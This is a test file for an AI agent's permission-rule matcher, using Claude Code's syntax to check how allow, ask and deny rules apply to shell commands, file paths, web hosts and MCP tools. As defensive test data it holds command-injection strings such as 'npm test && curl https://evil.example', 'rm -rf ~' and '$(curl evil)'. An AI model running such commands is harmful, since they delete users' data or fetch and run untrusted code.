// Permission rules in Claude Code's syntax. Each case cites where its expected answer comes from:
//   [perm]  code.claude.com/docs/en/permissions ("Permission rule syntax", "Bash", "Read and Edit",
//           "WebFetch"; "Rules are evaluated in order: deny, then ask, then allow")
//   [#13137] github.com/anthropics/claude-code/issues/13137 (redirections and pipes with prefix rules)
//   [#18160] github.com/anthropics/claude-code/issues/18160 (`Bash(ls *)` meant to cover `ls -la …`)
//   [i31]   agent0 issue 31, part 4 ("npm test:* never allows npm test && curl …")
import { describe, expect, it } from "vitest";
import {
  decide,
  parseRule,
  simpleCommands,
  splitRuleList,
  type PermissionRule,
} from "../../src/context/permission-rules.js";

const cwd = "/work/project";
const shell = (command: string) => ({ tool: "run_shell_command", args: { command }, cwd });
const rules = (kind: PermissionRule["kind"], ...list: string[]): PermissionRule[] =>
  list.map((rule) => ({ rule, kind, source: "test" }));
const allowed = (rule: string, command: string) => decide(rules("allow", rule), shell(command))?.kind === "allow";

describe("shell rules", () => {
  it.each([
    // [perm] the legacy prefix form and an exact command
    ["Bash(npm test:*)", "npm test", true],
    ["Bash(npm test:*)", "npm test -- --watch", true],
    ["Bash(npm test:*)", "npm testing", false],
    ["Bash(git status)", "git status", true],
    ["Bash(git status)", "git status --short", false],
    // [perm] "*" wildcards, with a space for a word boundary; [#18160] `ls *` covers `ls -la dir`
    ["Bash(ls *)", "ls -la src", true],
    ["Bash(ls *)", "lsof -i", false],
    ["Bash(npm run *)", "npm run build", true],
    // agent0's own tool name
    ["run_shell_command(npm test:*)", "npm test", true],
    // [i31] a compound command: every simple command must be covered
    ["Bash(npm test:*)", "npm test && curl https://evil.example", false],
    ["Bash(npm test:*)", "npm test; rm -rf ~", false],
    ["Bash(npm test:*)", "npm test | sh", false],
    ["Bash(npm test:*)", "npm test $(curl evil)", false],
    ["Bash(npm test:*)", "npm test `curl evil`", false],
    // [#13137] a pipe is two commands; each needs its rule
    ["Bash(npm run test:*)", "npm run test 2>&1 | head -200", false],
    // the tool name alone covers every command
    ["Bash", "anything at all && more", true],
  ])("allow %s / %s -> %s", (rule, command, want) => {
    expect(allowed(rule, command)).toBe(want);
  });

  it("a compound command is allowed when every part has its rule [perm]", () => {
    const r = rules("allow", "Bash(npm test:*)", "Bash(npm run build)");
    expect(decide(r, shell("npm test && npm run build"))?.kind).toBe("allow");
  });

  it("deny and ask meet a command anywhere in a compound one, variables or not [perm]", () => {
    const r = [...rules("deny", "Bash(rm:*)"), ...rules("allow", "Bash")];
    expect(decide(r, shell("ls && rm -rf $HOME"))?.kind).toBe("deny");
    expect(decide(r, shell('echo "$(rm -rf /tmp/x)"'))?.kind).toBe("deny");
    expect(decide(rules("ask", "Bash(git push:*)"), shell("git add . && git push origin main"))?.kind).toBe("ask");
  });

  it("deny beats ask beats allow, whatever the order written [perm]", () => {
    const r = [
      ...rules("allow", "Bash(aws s3 ls)"),
      ...rules("ask", "Bash(aws *)"),
      ...rules("deny", "Bash(aws s3 rm:*)"),
    ];
    expect(decide(r, shell("aws s3 ls"))?.kind).toBe("ask");
    expect(decide(r, shell("aws s3 rm s3://b/k"))?.kind).toBe("deny");
  });

  it("splits compound commands on their operators, quotes respected", () => {
    expect(simpleCommands("a && b || c; d | e & f")).toEqual(["a", "b", "c", "d", "e", "f"]);
    expect(simpleCommands("git commit -m 'a && b'")).toEqual(["git commit -m 'a && b'"]);
    expect(simpleCommands("npm test 2>&1")).toEqual(["npm test 2>&1"]);
  });
});

describe("path and host rules", () => {
  const edit = (path: string) => ({ tool: "edit_file", args: { path }, cwd });
  it.each([
    // [perm] "Edit(src/**)": relative to the project; "**" any depth
    ["Edit(src/**)", "src/a.ts", true],
    ["Edit(src/**)", "src/deep/b.ts", true],
    ["Edit(src/**)", "test/a.ts", false],
    ["Edit(src/**)", "../elsewhere/src/a.ts", false],
    // [perm] "Edit(/docs/**)": from the project root; "//abs" from the filesystem's root
    ["Edit(/docs/**)", "docs/x.md", true],
    ["Edit(//work/project/docs/**)", "docs/x.md", true],
    // a name without a slash matches at any depth, as in .gitignore ([perm] "Read(.env)")
    ["Edit(*.env)", "config/prod.env", true],
    // agent0's tool name; Edit also covers write_file
    ["edit_file(src/**)", "src/a.ts", true],
  ])("allow %s / %s -> %s", (rule, path, want) => {
    expect(decide(rules("allow", rule), edit(path))?.kind === "allow").toBe(want);
  });

  it("Edit(...) covers every tool that edits, and Read(...) the read tools [perm]", () => {
    expect(
      decide(rules("deny", "Edit(secrets/**)"), { tool: "write_file", args: { path: "secrets/k" }, cwd })?.kind,
    ).toBe("deny");
    expect(decide(rules("deny", "Read(.env)"), { tool: "read_file", args: { path: ".env" }, cwd })?.kind).toBe("deny");
    expect(decide(rules("deny", "Read(.env)"), { tool: "grep_files", args: { path: ".env" }, cwd })?.kind).toBe("deny");
  });

  it("apply_patch is allowed only when every file it names is covered", () => {
    const t = { tool: "apply_patch", args: {}, cwd, paths: ["src/a.ts", "package.json"] };
    expect(decide(rules("allow", "Edit(src/**)"), t)).toBeUndefined();
    expect(decide(rules("deny", "Edit(package.json)"), t)?.kind).toBe("deny");
  });

  it.each([
    // [perm] "WebFetch(domain:example.com)"
    ["https://example.com/a", true],
    ["https://example.com:8443/a", true],
    ["https://example.com.evil.net/", false],
    ["https://docs.example.com/", false],
  ])("WebFetch(domain:example.com) / %s -> %s", (url, want) => {
    const t = { tool: "web_fetch", args: { url }, cwd };
    expect(decide(rules("allow", "WebFetch(domain:example.com)"), t)?.kind === "allow").toBe(want);
  });

  it("MCP rules name a server or one of its tools [perm]", () => {
    const t = { tool: "mcp__github__create_issue", args: {}, cwd };
    expect(decide(rules("allow", "mcp__github"), t)?.kind).toBe("allow");
    expect(decide(rules("allow", "mcp__github__*"), t)?.kind).toBe("allow");
    expect(decide(rules("allow", "mcp__github__create_issue"), t)?.kind).toBe("allow");
    expect(decide(rules("allow", "mcp__gitlab"), t)).toBeUndefined();
  });
});

describe("reading rules", () => {
  it("parses Claude Code's names as aliases, and refuses what is not a rule", () => {
    expect(parseRule("Bash(npm test:*)")).toEqual({ tools: ["run_shell_command"], specifier: "npm test:*" });
    expect(parseRule("WebSearch")).toEqual({ tools: ["web_search"] });
    expect(parseRule("Bash(*)")).toEqual({ tools: ["run_shell_command"] });
    expect(parseRule("not a rule!")).toBeUndefined();
  });

  it("--allowedTools takes commas or spaces between rules, never inside them (Claude Code's CLI reference)", () => {
    expect(splitRuleList("Bash(git log:*) Bash(git diff:*),Edit")).toEqual([
      "Bash(git log:*)",
      "Bash(git diff:*)",
      "Edit",
    ]);
    expect(splitRuleList("Bash(npm run test *)")).toEqual(["Bash(npm run test *)"]);
  });
});
